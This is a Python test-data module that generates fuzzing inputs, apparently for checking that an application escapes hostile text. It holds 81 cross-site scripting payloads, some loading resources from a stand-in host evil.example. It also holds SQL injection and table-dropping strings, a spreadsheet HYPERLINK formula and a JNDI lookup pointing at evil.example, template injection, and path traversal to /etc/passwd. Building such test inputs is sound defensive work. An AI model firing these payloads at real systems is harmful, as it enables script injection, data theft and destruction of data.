"""Texts that try to be something else: 81 that try to be a script, and 500 that try everything besides."""

from itertools import cycle, islice, product

# What each calls when it runs. The page of a test defines it, and counts.
CALL = "hacked()"
ELSEWHERE = "evil.example"

_VECTORS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt src=//{ELSEWHERE}/x.js></sCrIpT>",
    f"<img src=x onerror={CALL}>",
    f"<img src=//{ELSEWHERE}/beacon.png>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=//{ELSEWHERE}/x.swf>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<math><mtext></form><mglyph><style></math><img src onerror={CALL}>",
    f"<a href=javascript:{CALL} id=x autofocus>x</a>",
    f"<form action=//{ELSEWHERE}><button autofocus>x</button></form>",
    f"<base href=//{ELSEWHERE}/>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}'>",
    f"<style>@import '//{ELSEWHERE}/x.css';</style>",
    f"[x](javascript:{CALL})",
    f"![x](//{ELSEWHERE}/x.png)",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
)
_AROUND = ("{}", "'\"></textarea></title></style></script>{}", "`{}` $${}$$ :red[{}]".replace("{}", "{0}"))
PAYLOADS = tuple(around.format(vector) for around, vector in product(_AROUND, _VECTORS))

_SEEDS = (
    "' OR '1'='1",
    "'; DROP TABLE person; --",
    '" UNION SELECT value FROM contact_channel --',
    "Robert'); DELETE FROM network;--",
    "=1+1",
    "=HYPERLINK('//evil.example','x')",
    "@SUM(A1:A9)",
    "+31 6 11",
    "-2+3",
    "%s%s%n",
    "%(name)s",
    "{0}{name}{__class__}",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    "../../../../etc/passwd",
    "C:\\CON\\PRN\\NUL",
    "file:///etc/passwd",
    "NULL",
    "None",
    "undefined",
    "NaN",
    "true",
    "0",
    "1e309",
    "-0.0",
    "0x7fffffff",
    "2026-02-30",
    "31-02-2026",
    "[]",
    '{"a": 1}',
    "\\",
    "\\u0000",
    "&lt;b&gt;&#x41;&nbsp;",
    "*vet* _schuin_ ~~weg~~ `code`",
    "# kop\n\n- lijst\n1. een",
    "| a | b |\n|---|---|",
    ":material/home: :smile: :red[rood] :violet-background[x]",
    "$\\frac{1}{2}$ \\(x\\)",
    "```python\nimport os\n```",
    "[^1]: voetnoot",
    "<!-- niets -->",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "Ünïcødé ß ẞ ĳ Ĳ ŋ",
    "مرحبا بالعالم",
    "שלום עולם",
    "你好，世界",
    "नमस्ते",
    "ไทย ๑๒๓",
    "👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽",
    "e\u0301 a\u0308 o\u0323\u0302",
    "Z\u0351\u036b\u0343a\u0341\u0344l\u0348\u034dg\u0321\u0345o\u0329",
    "ｆｕｌｌ　ｗｉｄｔｈ",
    "ﷺ ﷽",
    "𝓗𝓮𝓵𝓵𝓸 𝟙𝟚𝟛",
    "\u202eomgekeerd\u202c",
    "nul\u200bbreed\ufeff",
    "tab\there\x0bthere\x0c",
    "bel\x07 nul\x00 esc\x1b[31m",
    "regel\r\nregel\rregel\u2028regel\u2029regel",
    "\ud800 los",
    "\u00a0\u2003ruimte\u3000",
    "a" * 190,
)
_TAILS = ("", " ", "\n", "'", '"', "\\", "%", ";--", "\x00", "\u202e", "<", "&", "=", "{", "👍", "\t|")
STRINGS = tuple(islice((f"{seed}{tail}" for tail, seed in product(_TAILS, _SEEDS)), 500))

ALL = PAYLOADS + STRINGS


def endless() -> "cycle[str]":
    return cycle(ALL)
